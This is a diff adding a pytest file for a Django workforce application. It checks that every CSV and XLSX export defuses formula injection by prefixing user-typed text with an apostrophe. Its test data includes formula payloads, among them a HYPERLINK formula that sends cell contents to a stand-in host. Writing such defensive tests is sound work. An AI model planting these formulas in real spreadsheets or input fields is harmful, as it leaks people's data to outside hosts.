@@ -1,0 +1,188 @@
+"""Every spreadsheet export defuses text a spreadsheet would run as a formula.
+
+The test walks every route that answers with a CSV or XLSX file: each must be one of the
+cases below (a new export fails the test until it is added). Each case stores text a
+person typed, written as formulas, where that export shows it, downloads the file in
+every format, and checks that the text comes out with a leading apostrophe, never as a
+formula cell and never as it was typed.
+"""
+
+import csv
+import io
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from openpyxl import load_workbook
+
+from tests.equity import report_data
+from tests.factories import ParticipantFactory
+from workbridge.employers.models import Employer
+from workbridge.equity.services import flow_counts_refresh
+from workbridge.web import exports
+
+# What people type that a spreadsheet would otherwise run: a link that sends the sheet's
+# cells away, sums, and a function call.
+FORMULAS = ['=HYPERLINK("http://example.org/?d="&A1,"Open")', "+1", "-2+3", "@SUM(A1:A2)"]
+IMMEDIATE = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}
+
+
+def cells_of(response, fmt: str) -> list[str]:
+    """Every text cell of a downloaded file; an XLSX formula cell fails the test."""
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    if fmt == "csv":
+        text = body.decode("utf-8").removeprefix("\ufeff")
+        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    texts = []
+    for sheet in load_workbook(io.BytesIO(body)).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    return texts
+
+
+def assert_defused(cells: list[str]) -> None:
+    for typed in FORMULAS:
+        assert typed not in cells
+        assert "'" + typed in cells
+
+
+# The cases: each stores the formulas where its export shows them and returns the responses.
+
+
+def caseload(client, coach, **_personas):
+    for typed in FORMULAS:
+        ParticipantFactory(
+            organisation=coach.membership.organisation, assigned_to=coach, first_name=typed
+        )
+    client.force_login(coach)
+    return {fmt: client.get(reverse("people:export", args=[fmt])) for fmt in ("csv", "xlsx")}
+
+
+def employer_list(client, coach, **_personas):
+    for typed in FORMULAS:
+        Employer.objects.create(organisation=coach.membership.organisation, name=typed)
+    client.force_login(coach)
+    return {fmt: client.get(reverse("employers:export", args=[fmt])) for fmt in ("csv", "xlsx")}
+
+
+def prepared_export(
+    client, coach, settings, monkeypatch, django_capture_on_commit_callbacks, **_personas
+):
+    """A list too long for the request, prepared by the worker and then downloaded."""
+    settings.TASKS = IMMEDIATE
+    monkeypatch.setattr(exports, "SYNC_MAX_ROWS", 1)
+    for typed in FORMULAS:
+        ParticipantFactory(
+            organisation=coach.membership.organisation, assigned_to=coach, first_name=typed
+        )
+    client.force_login(coach)
+    responses = {}
+    for fmt in ("csv", "xlsx"):
+        with django_capture_on_commit_callbacks(execute=True):
+            client.post(reverse("people:export", args=[fmt]))
+        job = exports.ExportJob.objects.filter(fmt=fmt).get()
+        responses[fmt] = client.get(reverse("export_download", args=[job.pk]))
+    return responses
+
+
+def _departments(organisation):
+    for typed in FORMULAS:
+        req = report_data.requisition(organisation, year=2025, department=typed, job_title=typed)
+        report_data.applicants(organisation, req, "white", "female", report_data.HIRED, 2)
+        report_data.applicants(organisation, req, "black", "male", report_data.HIRED, 2)
+    flow_counts_refresh(organisation=organisation)
+
+
+def equity_report(client, analyst, **_personas):
+    """The source-channel report: a row for each way applicants heard about the job, as the
+    imported file wrote it."""
+    organisation = analyst.membership.organisation
+    req = report_data.requisition(organisation, year=2025)
+    for typed in FORMULAS:
+        report_data.applicants(
+            organisation, req, "white", "female", report_data.HIRED, 2, heard_about=typed
+        )
+    flow_counts_refresh(organisation=organisation)
+    client.force_login(analyst)
+    return {
+        fmt: client.get(reverse("equity:report_export", args=["yield", fmt]), {"year": "2025"})
+        for fmt in ("csv", "xlsx")
+    }
+
+
+def impact_analysis(client, analyst, **_personas):
+    """The adverse-impact workbook, filtered to each job title: its notes name the filter."""
+    organisation = analyst.membership.organisation
+    _departments(organisation)
+    client.force_login(analyst)
+    cells = []
+    for typed in FORMULAS:
+        cells += cells_of(client.get(reverse("equity:impact_xlsx"), {"job_title": typed}), "xlsx")
+    return {"xlsx": cells}
+
+
+CASES = {
+    "people:export": caseload,
+    "employers:export": employer_list,
+    "export_download": prepared_export,
+    "equity:report_export": equity_report,
+    "equity:impact_xlsx": impact_analysis,
+}
+# Exports whose cells hold no text a person typed: groups and figures only, or a fixed
+# template. They are written by the same writer (workbridge.core.spreadsheets).
+NO_TYPED_TEXT = {
+    "placements:outcomes_export": "groups are choices, figures are numbers",
+    "interviews:impact_export": "groups are choices, figures are numbers",
+    "interviews:composition_export": "groups are choices, figures are numbers",
+    "equity:workforce_template": "a fixed template",
+}
+
+
+def spreadsheet_routes() -> set[str]:
+    """The names of every route that answers with a CSV or XLSX file."""
+    found = set()
+
+    def walk(patterns, namespace=""):
+        for pattern in patterns:
+            if isinstance(pattern, URLResolver):
+                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
+                walk(pattern.url_patterns, inner)
+            elif isinstance(pattern, URLPattern) and pattern.name:
+                route = str(pattern.pattern)
+                if any(mark in route for mark in ("export", ".csv", ".xlsx")):
+                    found.add(f"{namespace}{pattern.name}")
+
+    walk(get_resolver().url_patterns)
+    return found - {"export_job"}  # the page that offers a prepared file, not the file
+
+
+def test_every_spreadsheet_export_is_walked_here():
+    assert spreadsheet_routes() == set(CASES) | set(NO_TYPED_TEXT)
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_it_defuses_formulas_typed_into_what_an_export_shows(
+    name,
+    client,
+    coach,
+    analyst,
+    settings,
+    monkeypatch,
+    django_capture_on_commit_callbacks,
+):
+    # given text written as formulas, stored where the export shows it; when downloaded
+    responses = CASES[name](
+        client,
+        coach=coach,
+        analyst=analyst,
+        settings=settings,
+        monkeypatch=monkeypatch,
+        django_capture_on_commit_callbacks=django_capture_on_commit_callbacks,
+    )
+    # then every format has it with a leading apostrophe, and no formula cell
+    assert set(responses) >= {"xlsx"}
+    for fmt, response in responses.items():
+        assert_defused(response if isinstance(response, list) else cells_of(response, fmt))
